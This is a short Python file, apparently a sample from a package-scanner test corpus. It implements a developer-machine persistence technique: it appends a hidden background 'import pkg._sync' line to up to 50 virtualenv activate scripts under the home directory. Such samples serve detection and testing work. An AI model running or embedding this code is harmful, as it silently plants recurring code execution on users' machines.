# pkgguard corpus 897 (persistence), modelled on [developer-persistence]; inert, never run.
import glob
import os

_LINE = '\n( "$VIRTUAL_ENV/bin/python" -c "import pkg._sync" >/dev/null 2>&1 & )\n'

home = os.path.expanduser("~")
for script in glob.glob(os.path.join(home, "**", "bin", "activate"), recursive=True)[:50]:
    try:
        with open(script, encoding="utf-8") as fh:
            if "pkg._sync" in fh.read():
                continue
        with open(script, "a", encoding="utf-8") as fh:
            fh.write(_LINE)
    except OSError:
        continue
